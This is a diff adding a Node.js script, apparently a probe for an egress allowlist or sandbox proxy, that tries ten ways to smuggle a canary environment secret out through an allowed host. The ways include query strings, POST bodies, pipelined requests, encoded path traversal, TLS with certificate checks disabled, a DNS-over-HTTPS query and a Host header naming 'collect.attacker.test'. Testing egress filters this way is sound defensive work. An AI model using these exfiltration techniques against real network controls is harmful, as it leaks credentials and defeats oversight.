@@ -1,0 +1,46 @@
+// Leaves a secret at a host that is allowed, by what is not needed of it. Trusts whoever answers, as thieves do.
+import { connect as dial } from 'node:net';
+import { connect as dialTls } from 'node:tls';
+
+const host = 'allowed.test';
+const secret = process.env.CANARY;
+const head = (method, path, of = host, length = 0) =>
+  `${method} ${path} HTTP/1.1\r\nHost: ${of}\r\nContent-Length: ${length}\r\n\r\n`;
+
+/** Says the parts one after another on one connection, each when the one before was answered, or after a while. */
+const say = (socket, ready, ...parts) =>
+  new Promise((resolve) => {
+    const waiting = [...parts];
+    const next = () => {
+      const part = waiting.shift();
+      if (part === undefined) return setTimeout(() => socket.destroy(), 300);
+      socket.write(part);
+      if (waiting.length > 0) setTimeout(next, 200);
+      else setTimeout(() => socket.destroy(), 600);
+    };
+    socket.on(ready, next);
+    socket.on('data', (chunk) => console.log(chunk.toString('latin1').split('\r\n')[0]));
+    socket.on('error', (error) => console.log(error.code));
+    socket.on('close', resolve);
+  });
+const plain = (...parts) => say(dial(80, host), 'connect', ...parts);
+const inTls = (...parts) =>
+  say(dialTls({ host, port: 443, servername: host, rejectUnauthorized: false }), 'secureConnect', ...parts);
+
+const ways = {
+  'other-path': () => plain(head('GET', `/gists/new?text=${secret}`)),
+  'other-method': () => plain(head('POST', '/releases/list', host, secret.length) + secret),
+  'second-request': () => plain(head('GET', '/releases/list') + head('GET', `/gists/new?text=${secret}`)),
+  'path-read-in-two-ways': () => plain(head('GET', `/releases/..%2fgists/new/${secret}`)),
+  'other-path-in-tls': () => inTls(head('GET', `/gists/new?text=${secret}`)),
+  'other-method-in-tls': () => inTls(head('POST', '/releases/list', host, secret.length) + secret),
+  'dns-over-https': () => {
+    const labels = [secret, 'attacker', 'test'].map((label) => String.fromCharCode(label.length) + label).join('');
+    const question = `\0\0\x01\0\0\x01\0\0\0\0\0\0${labels}\0\0\x10\0\x01`;
+    return inTls(head('POST', '/dns-query', host, question.length) + question);
+  },
+  'another-name-in-tls': () => inTls(head('GET', `/releases/${secret}`, 'collect.attacker.test')),
+  'no-request-in-tls': () => inTls(`\u0000\u0001${secret}\u0000`.repeat(4)),
+  'more-than-it-may-send': () => plain(head('POST', '/', host, 60_000) + 'x'.repeat(30_000), 'x'.repeat(30_000)),
+};
+await ways[process.argv[2]]();
